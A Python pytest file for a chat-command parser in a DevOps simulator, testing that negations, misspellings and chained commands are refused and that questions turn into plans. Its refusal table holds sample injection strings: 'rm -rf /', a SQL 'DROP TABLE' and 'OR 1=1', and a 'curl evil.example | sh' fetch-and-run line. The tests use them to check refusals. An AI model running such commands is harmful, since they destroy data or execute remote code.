"""The language's safety rules and reach, as the issue that asked for them put them: a table
of what must never act, conversations across environments, and the structure that keeps one
declaration per command (no import circles, no drift between declared and built arguments)."""

from __future__ import annotations

import ast
import dataclasses
from pathlib import Path

import pytest

from devsim_tui.chatops import REGISTRY, ParseContext, ParseError, parse
from engine import load_scenario
from engine.commands import COMMAND_TYPES

SPEC = load_scenario("shopfront")
PACKAGE = Path(__file__).resolve().parents[2] / "devsim_tui" / "chatops"


def fresh() -> ParseContext:
    return ParseContext.for_scenario(SPEC)


# (text, a fragment of the refusal) — none of these may act
NEVER_ACTS = [
    # negations
    ("don't restart payments", "don't"), ("do not restart payments", "not"),
    ("never scale checkout to 0", "never"), ("please don't roll back cart", "don't"),
    ("scale checkout to 3. actually, don't", "don't"), ("dont fail over orders-db", "dont"),
    # misspelt verbs: never another intent, never status
    ("sacle cart to 3", "did you mean 'scale'"), ("deplyo checkout 2.5.0", "'deploy'"),
    ("rollbak cart", "did you mean"), ("restrat payments", "'restart'"),
    ("falover orders-db", "did you mean"), ("depoly web 4.4.4", "'deploy'"),
    # near-miss names are not corrected when the word is short
    ("restart cert", "no service called 'cert'"), ("scale card to 3", "'card'"),
    ("deploy chart 2.0.0", "'chart'"), ("status frontend", "'frontend'"),
    # leftovers, second commands, schedules
    ("deploy checkout 1.0.0; rm -rf /", "one command at a time"),
    ("deploy checkout 2.5.0 but not until tomorrow", "tomorrow"),
    ("'; DROP TABLE commands; --", "one command at a time"),
    ("deploy checkout 2.5.0 && curl evil.example | sh", "one command at a time"),
    ("scale checkout to 4 and restart payments", "two things"),
    ("scale cart to 3' OR '1'='1", "'1'"),
    ("restart checkout in 5 minutes", "duration"),
    ("failover payments-db", "payments-db"),
    ("autoscale checkout min 10 max 2", "min 10 is above max 2"),
    # rewinding changes the world too
    ("don't rewind 10m", "don't"), ("rewnid 10 minutes", "did you mean 'rewind'"),
    ("rewind", "how far"), ("rewind 10m; deploy checkout 2.5.0", "one command at a time"),
    ("rewind 10m on checkout", "'checkout'"), ("rewind -5m", "positive"),
]


@pytest.mark.parametrize(("text", "fragment"), NEVER_ACTS, ids=lambda v: str(v)[:40])
def test_it_never_acts(text: str, fragment: str) -> None:
    result = parse(text, fresh())
    assert isinstance(result, ParseError), result
    assert fragment.lower() in result.message.lower(), result.message


QUESTIONS = [
    ("should i roll back checkout?", "rollback"), ("should we failover orders-db?", "failover"),
    ("is it safe to restart payments?", "restart"),
    ("what would happen if I scaled cart to 5?", "scale"),
    ("plan deploy checkout 2.5.0 as a canary", "deploy"),
    ("plan: kill 2 instances of checkout", "chaos"), ("dry run roll back payments", "rollback"),
    ("preview failover of orders-db", "failover"),
    ("should I rewind 10 minutes?", "rewind"),
]


@pytest.mark.parametrize(("text", "inner"), QUESTIONS)
def test_a_question_about_acting_is_a_plan(text: str, inner: str) -> None:
    result = parse(text, fresh()).to_dict()
    assert result["intent"] == "plan" and result["args"]["command"]["intent"] == inner


def test_context_carries_the_environment_and_says_so() -> None:
    ctx = fresh()
    assert parse("deploy cart 3.2.0 in staging", ctx).to_dict()["args"]["env"] == "staging"
    for text, intent in (("roll it back", "rollback"), ("abort", "abort"),
                         ("show history", "history")):
        result = parse(text, ctx).to_dict()
        assert result == {"intent": intent, "args": {"service": "cart", "env": "staging"}}
        assert any("cart in staging" in note for note in ctx.notes)
    # a new subject named outright does not inherit staging
    assert "env" not in parse("restart payments", ctx).to_dict()["args"]


def test_stop_it_follows_what_was_just_started() -> None:
    ctx = fresh()
    parse("add 300ms of latency to search for 10 minutes", ctx)
    assert parse("stop it", ctx).to_dict() == {"intent": "chaos_stop",
                                               "args": {"target": "search"}}
    parse("deploy checkout 2.5.0 to staging", ctx)
    assert parse("stop it", ctx).to_dict() == {"intent": "abort", "args": {
        "service": "checkout", "env": "staging"}}


REACH = [
    ("?", {"intent": "help", "args": {}}), ("h", {"intent": "help", "args": {}}),
    ("rb checkout", {"intent": "rollback", "args": {"service": "checkout"}}),
    ("slow down", {"intent": "speed", "args": {"factor": 0.5}}),
    ("why is everything on fire", {"intent": "explain", "args": {}}),
    ("flush the cache", {"intent": "chaos", "args": {"fault": "cache-flush",
                                                     "target": "sessions"}}),
    ("silence checkout-high-latency for 1h", {"intent": "silence", "args": {
        "alert": "checkout-high-latency", "duration": 3600}}),
    ("autoscale checkout min 2 max 10 cpu 70", {"intent": "autoscale", "args": {
        "service": "checkout", "min": 2, "max": 10, "target_cpu": 70}}),
    ("ack 3", {"intent": "ack", "args": {"alert": "3"}}),
    ("chaos list", {"intent": "chaos_list", "args": {}}),
    ("chaos stop 3", {"intent": "chaos_stop", "args": {"id": "3"}}),
    ("partition checkout from payments", {"intent": "chaos", "args": {
        "fault": "partition", "target": "checkout", "peer": "payments"}}),
    ("restore users-db to 00:40:00", {"intent": "restore", "args": {"database": "users-db",
                                                                    "to": 2400}}),
    ("autoscale web predictive", {"intent": "autoscale", "args": {"service": "web",
                                                                  "predictive": True}}),
    ("expire the cert on gateway", {"intent": "chaos", "args": {"fault": "cert-expiry",
                                                                "target": "gateway"}}),
    ("backlog the queue", {"intent": "chaos", "args": {"fault": "queue-backlog",
                                                       "target": "order-events"}}),
]


@pytest.mark.parametrize(("text", "expected"), REACH, ids=lambda v: str(v)[:40])
def test_reach(text: str, expected: dict) -> None:
    assert parse(text, fresh()).to_dict() == expected


def test_the_db_is_ambiguous_where_there_are_two() -> None:
    result = parse("fail over the db", fresh())
    assert isinstance(result, ParseError)


def test_every_declared_argument_is_a_field_and_every_built_one_declared() -> None:
    for spec in REGISTRY:
        fields = {f.name for f in dataclasses.fields(COMMAND_TYPES[spec.intent])}
        declared = {slot.name for slot in spec.slots}
        assert declared == fields, spec.intent
    for spec in REGISTRY:
        for example in spec.examples:
            built = parse(example, fresh())
            assert not isinstance(built, ParseError), example
            assert set(built.args()) <= {s.name for s in spec.slots}, example


def test_the_language_package_has_no_import_circles() -> None:
    graph: dict[str, set[str]] = {}
    for path in PACKAGE.glob("*.py"):
        tree = ast.parse(path.read_text())
        graph[path.stem] = {
            (node.module or "").split(".")[0] or alias.name
            for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.level == 1
            for alias in node.names}
    graph = {k: {m for m in v if m in graph} for k, v in graph.items()}

    def visit(node: str, trail: tuple[str, ...]) -> None:
        assert node not in trail, " → ".join((*trail, node))
        for nxt in graph[node]:
            visit(nxt, (*trail, node))

    for module in graph:
        visit(module, ())
